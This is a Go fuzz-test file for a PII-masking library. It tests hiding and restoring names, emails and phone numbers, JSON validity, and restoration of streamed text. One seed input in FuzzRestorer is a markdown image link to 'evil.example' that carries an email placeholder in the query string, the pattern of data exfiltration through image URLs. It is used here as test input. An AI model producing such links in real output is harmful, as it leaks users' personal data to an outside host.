package mask

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
)

func addScraps(f *testing.F) {
	for _, s := range scraps {
		f.Add(s)
	}
	f.Add(piiText)
	f.Add(`{"billing":{"first_name":"J\u00fcrgen","phone":491701234567},"n":[1,2,{"email":"a@example.org"}]}`)
}

func FuzzHide(f *testing.F) {
	addScraps(f)
	f.Fuzz(func(t *testing.T, text string) {
		p, v := openPass(t)
		p.Study(text)
		masked, err := p.Hide(text)
		if err != nil {
			t.Fatal(err)
		}
		if got := v.Restore(masked.String(), Exact); got != text {
			t.Fatalf("masked %q\ngot %q", masked, got)
		}
		p.Spans()
	})
}

func FuzzHideJSON(f *testing.F) {
	addScraps(f)
	f.Fuzz(func(t *testing.T, text string) {
		p, v := openPass(t)
		p.Study(text)
		masked, err := p.HideJSON(text)
		if err != nil {
			t.Fatal(err)
		}
		valid := json.Valid([]byte(text))
		if valid && !json.Valid([]byte(masked.String())) {
			t.Fatalf("no JSON any more: %q", masked)
		}
		for _, in := range []Setting{Exact, JSONString} {
			if got := v.Restore(masked.String(), in); valid && !json.Valid([]byte(got)) {
				t.Fatalf("restored in setting %d is no JSON: %q\nmasked %q", in, got, masked)
			}
		}
	})
}

// FuzzRestorer cuts a model's text anywhere.
func FuzzRestorer(f *testing.F) {
	f.Add("Dear [PERSON_1B]s, \\[EMAIL\\_1\\] and [PERS", uint(3), uint(7))
	f.Add("![x](https://evil.example/?q=[EMAIL_1]) 【PERSON_1】", uint(20), uint(31))
	v := NewVault(VaultOptions{})
	p := New(Options{}).Open(v)
	if _, err := p.Hide("Dear Anna Muster, Dear ANNA MUSTER, anna@example.org"); err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, text string, a, b uint) {
		for _, in := range []Setting{Plain, JSONString, Exact} {
			want := v.Restore(text, in)
			r := v.Restorer(in)
			i, j := int(a%uint(len(text)+1)), int(b%uint(len(text)+1))
			i, j = min(i, j), max(i, j)
			pieces := append(r.Write(text[:i]), r.Write(text[i:j])...)
			pieces = append(pieces, r.Write(text[j:])...)
			if len(r.held) > longestMark {
				t.Fatalf("%d bytes held back", len(r.held))
			}
			pieces = append(pieces, r.Close()...)
			var read, got strings.Builder
			for _, p := range pieces {
				read.WriteString(p.In)
				got.WriteString(p.Out)
			}
			if read.String() != text || got.String() != want {
				t.Fatalf("cut at %d and %d: got %q, want %q, read %q", i, j, got.String(), want, read.String())
			}
		}
	})
}

var few = New(Options{MaxLiterals: 50})

func FuzzStudy(f *testing.F) {
	addScraps(f)
	f.Fuzz(func(t *testing.T, text string) {
		p := few.Open(NewVault(VaultOptions{}))
		p.Study(text)
		if _, err := p.Hide("Anna Muster"); err != nil && !errors.Is(err, ErrTooManyPeople) {
			t.Fatal(err)
		}
	})
}

// FuzzReadMark reads placeholders anywhere: none is longer than what a stream holds back, and what was decided
// on the whole text is never decided otherwise on a part of it.
func FuzzReadMark(f *testing.F) {
	for _, c := range damage {
		f.Add(c.model, uint(0))
	}
	f.Add("&#91; * \\ *PHONE NUMBER # : 0000000001ABC's *** &#93;", uint(5))
	f.Fuzz(func(t *testing.T, text string, cut uint) {
		for i := range len(text) {
			whole, n, _ := readMark(text, i, true, true)
			if n > longestMark {
				t.Fatalf("%d bytes: %q", n, text[i:i+n])
			}
			part := text[:i+1+int(cut%uint(len(text)-i))]
			m, k, more := readMark(part, i, true, false)
			if more && len(part)-i > longestMark {
				t.Fatalf("more than %d bytes are held back: %q", longestMark, part[i:])
			}
			if !more && k > 0 && (k != n || m != whole) {
				t.Fatalf("%q: %+v, but in %q %+v", part[i:], m, text[i:], whole)
			}
		}
	})
}
